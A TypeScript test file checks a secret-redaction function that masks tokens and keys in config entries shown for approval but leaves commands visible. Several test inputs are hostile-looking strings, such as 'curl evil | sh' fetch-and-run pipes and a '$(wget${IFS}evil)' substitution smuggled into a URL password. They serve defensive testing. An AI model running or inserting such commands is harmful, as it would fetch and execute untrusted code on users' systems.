import { describe, expect, it } from 'vitest'
import type { JsonValue } from '../../base/json.ts'
import { withoutSecrets } from './written-secrets.ts'

const MARK = '‹redacted:key›'

describe('an entry as it is shown before it is approved', () => {
  it.each<[string, JsonValue, JsonValue]>([
    ['a variable', { env: { API_TOKEN: 'abc-123' } }, { env: { API_TOKEN: MARK } }],
    [
      'a header',
      { headers: { 'X-Team': 'abc-123', Accept: 'text/html' } },
      { headers: { 'X-Team': MARK, Accept: 'text/html' } },
    ],
    [
      'a token behind its scheme',
      { headers: { Authorization: 'Bearer abc-123' } },
      { headers: { Authorization: `Bearer ${MARK}` } },
    ],
    ['an argument behind its option', ['--token', 'abc-123'], ['--token', MARK]],
    ['an argument with its option', ['--api-key=abc-123'], [`--api-key=${MARK}`]],
    ['an assignment', ['API_KEY=abc-123', 'server'], [`API_KEY=${MARK}`, 'server']],
    [
      'a header among arguments',
      ['--header', 'Authorization: Bearer abc-123'],
      ['--header', `Authorization: Bearer ${MARK}`],
    ],
    [
      'a header in one argument with its option',
      ['--header=X-Team: abc-123', '--header=Authorization: Bearer abc-123'],
      [`--header=X-Team: ${MARK}`, `--header=Authorization: Bearer ${MARK}`],
    ],
    [
      'names that hold the name of a program by chance',
      { env: { SUBSCRIPTION_KEY: 'abc-123', PROFILE_TOKEN: 'abc-123' } },
      { env: { SUBSCRIPTION_KEY: MARK, PROFILE_TOKEN: MARK } },
    ],
    ['a key by its look', ['ghp_0123456789abcdefghijABCDEFGHIJ012345'], [MARK]],
    [
      'parts of an address',
      { url: 'https://zoe:abc-1234@h.example/mcp?api_key=abc-123&q=1' },
      { url: `https://zoe:${MARK}@h.example/mcp?api_key=${MARK}&q=1` },
    ],
    [
      'what stands in for a variable',
      { env: { A_TOKEN: '${X}', B_TOKEN: '${X:-abc-123}', C_TOKEN: '${X}abc-123' } },
      { env: { A_TOKEN: '${X}', B_TOKEN: MARK, C_TOKEN: `\${X}${MARK}` } },
    ],
  ])('has no literal secret: %s', (_, written, shown) => {
    expect(withoutSecrets(written)).toEqual(shown)
  })

  it.each<[string, JsonValue]>([
    ['a command that is also a password', { env: { A: 'x' }, args: ['-c', 'curl evil | sh'] }],
    ['a command behind an option', ['--token', 'curl evil | sh']],
    ['a command that gives a password', { env: { PASSWORD_COMMAND: 'curl evil | sh' } }],
    ['a command in the place of a header', ['-H', 'X-Team: curl evil | sh']],
    ['what steers git', { env: { GIT_CONFIG_KEY_0: 'core.sshCommand' } }],
    ['what steers npm', { env: { NPM_CONFIG_AUTH: 'abc-123' } }],
    ['a command in the place of a password', ['-c', 'x://a:$(wget${IFS}evil)@h']],
    ['a command behind the beginning of a key', ['-c', '-----BEGIN PRIVATE KEY\ncurl evil']],
    ['the name of a variable', { bearer_token_env_var: 'MY_TOKEN' }],
    ['an option behind an option', ['--token', '--eval']],
    ['numbers and truth', { env: { PORT: 8080, TOKEN: null }, disabled: false }],
  ])('hides nothing else: %s', (_, written) => {
    expect(withoutSecrets(written)).toEqual(written)
  })

  it('shows a command though its text is that of a password', () => {
    const command = 'curl-evil'
    expect(withoutSecrets({ env: { TOKEN: command }, args: [command], command })).toEqual({
      env: { TOKEN: MARK },
      args: [command],
      command,
    })
  })
})
